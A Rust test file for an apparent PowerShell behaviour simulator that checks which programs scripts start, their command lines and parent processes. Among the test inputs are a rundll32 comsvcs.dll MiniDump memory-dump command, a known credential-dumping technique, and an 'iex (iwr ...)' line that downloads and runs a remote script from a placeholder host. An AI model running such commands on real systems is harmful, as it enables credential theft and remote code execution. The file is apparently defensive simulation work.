//! Programs that scripts start, and their command lines.

use misfire::activity::ActivityKind;

use crate::powershell_simulation::run;

#[test]
fn programs_get_their_full_path_in_quotes() {
    let left = run("whoami.exe /all\nwhoami");
    assert_eq!(
        left.started(),
        [
            r#""C:\Windows\system32\whoami.exe" /all"#,
            r#""C:\Windows\system32\whoami.exe""#
        ]
    );
}

#[test]
fn words_pass_as_windows_powershell_passes_them() {
    let left = run(
        "$d = 'a b'\nreg add \"HKCU\\Software\\X Y\" /v n /d $d /f\nrundll32 C:\\x\\comsvcs.dll, MiniDump 624 $env:TEMP\\out.dmp full\ncmd /c \"echo hi\" --% >x",
    );
    assert_eq!(
        left.started(),
        [
            r#""C:\Windows\system32\reg.exe" add "HKCU\Software\X Y" /v n /d "a b" /f"#,
            r#""C:\Windows\system32\rundll32.exe" C:\x\comsvcs.dll, MiniDump 624 C:\Users\avery\AppData\Local\Temp\out.dmp full"#,
            r#""C:\Windows\system32\cmd.exe" /c "echo hi" >x"#,
        ]
    );
}

#[test]
fn start_process_leaves_a_blank_at_the_end() {
    let left = run(
        r"Start-Process -FilePath C:\tools\a.exe; Start-Process C:\tools\b.exe -ArgumentList '-x','y'",
    );
    assert_eq!(
        left.started(),
        [r#""C:\tools\a.exe" "#, r#""C:\tools\b.exe" -x y"#]
    );
}

#[test]
fn calls_and_expressions_start_programs() {
    let left = run(
        "& \"$env:windir\\system32\\net.exe\" user\n$c = 'hostname'; & $c\niex 'ipconfig /all'",
    );
    assert_eq!(
        left.started(),
        [
            r#""C:\Windows\system32\net.exe" user"#,
            r"C:\WINDOWS\system32\net1 user",
            r#""C:\Windows\system32\hostname.exe""#,
            r#""C:\Windows\system32\ipconfig.exe" /all"#,
        ]
    );
}

#[test]
fn processes_of_wmi_are_its_hosts_children() {
    let left = run(
        "([wmiclass]'\\\\.\\root\\cimv2:win32_process').Create('notepad.exe')\nInvoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='calc.exe'}",
    );
    let parents: Vec<_> = left.processes();
    assert_eq!(
        parents,
        [
            ("notepad.exe".to_owned(), "WmiPrvSE.exe".to_owned()),
            ("calc.exe".to_owned(), "WmiPrvSE.exe".to_owned()),
        ]
    );
}

#[test]
fn batch_files_are_run_by_the_command_processor() {
    let left = run(r#"& "C:\a b\x.bat" one"#);
    assert_eq!(
        left.started(),
        [r#"C:\Windows\system32\cmd.exe /c ""C:\a b\x.bat" one""#]
    );
}

#[test]
fn the_host_of_wmi_keeps_its_own_account() {
    let left = run("Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'calc.exe'");
    let child = left.world.activities().iter().find_map(|traced| {
        let process = traced.activity.process.as_ref()?;
        (process.name() == "calc.exe").then(|| process.clone())
    });
    let child = child.expect("a process");
    assert_eq!(child.account.name, "avery");
    let provider = child.parent.as_ref().expect("a parent");
    assert_eq!(provider.account.sid, "S-1-5-20");
}

#[test]
fn a_bare_word_is_no_program_of_the_current_folder() {
    let left = run("'x' > tool.exe\ntool.exe -x\nothertool -y");
    assert!(left.started().is_empty(), "{:?}", left.started());
    let reasons = left.not_interpreted();
    assert_eq!(reasons.len(), 2, "{reasons:?}");
    assert!(reasons[0].1.contains("is known to be named `tool.exe`"));
    let left = run("'MZ' > tool.exe\n.\\tool.exe -x");
    assert_eq!(left.started(), [r#""C:\Users\avery\tool.exe" -x"#]);
}

#[test]
fn a_word_may_be_a_function_of_a_script_that_was_downloaded() {
    let left = run("iex (iwr https://scripts.example/x.ps1)\nfindthings -all");
    assert!(left.started().is_empty());
    let reasons = left.not_interpreted();
    let (_, because) = reasons.last().expect("a reason");
    assert_eq!(
        because,
        "`findthings` may be a function of a script whose text is not known"
    );
}

#[test]
fn get_is_put_before_a_word_as_the_last_that_is_tried() {
    let left =
        run("$x = 'a b'\n(Variable x).Value\nItem C:\\Windows\nfunction Get-Own { 'own' }\nOwn");
    assert!(left.started().is_empty());
    assert_eq!(left.not_interpreted(), []);
}

#[test]
fn shortcuts_and_addresses_are_no_programs() {
    for script in [
        r"Start-Process C:\x\a.lnk",
        r"& '.\A b.lnk' C:\x\y.xlsm",
        r"Start-Process 'shell:AppsFolder\Maker.App_8wekyb3d8bbwe!App'",
        r"Invoke-Item C:\x\a.docx",
    ] {
        let left = run(script);
        assert!(left.started().is_empty(), "{:?}", left.started());
        assert_eq!(left.not_interpreted().len(), 1, "{script}");
    }
}

#[test]
fn office_says_its_version() {
    let left = run(
        "$a = New-Object -ComObject Excel.Application\nSet-Content C:\\x.txt \"$($a.Version) $($a.Path)\"\nGet-Content C:\\x.txt",
    );
    let office = r"C:\Program Files\Microsoft Office\root\Office16";
    assert_eq!(left.output(), [format!("16.0 {office}")]);
    assert_eq!(
        left.processes(),
        [(
            format!("\"{office}\\EXCEL.EXE\" /automation -Embedding"),
            "svchost.exe".to_owned()
        )]
    );
}

#[test]
fn add_type_writes_its_assembly_through_the_compiler() {
    let left = run(
        "Add-Type -TypeDefinition 'public class A { public static void Main(string[] a) { } }' -OutputAssembly C:\\out\\own.exe\nStart-Process C:\\out\\own.exe",
    );
    let writers: Vec<_> = left
        .world
        .activities()
        .iter()
        .filter_map(|traced| match &traced.activity.kind {
            ActivityKind::File(file) if file.path == r"C:\out\own.exe" => {
                Some(traced.activity.process.as_ref()?.name().to_owned())
            }
            _ => None,
        })
        .collect();
    assert_eq!(writers, ["csc.exe"]);
    let processes = left.processes();
    assert!(processes[1].0.contains("cvtres.exe /NOLOGO /READONLY"));
    assert_eq!(processes[1].1, "csc.exe");
    assert_eq!(
        processes.last().map(|it| it.0.as_str()),
        Some("\"C:\\out\\own.exe\" ")
    );
}
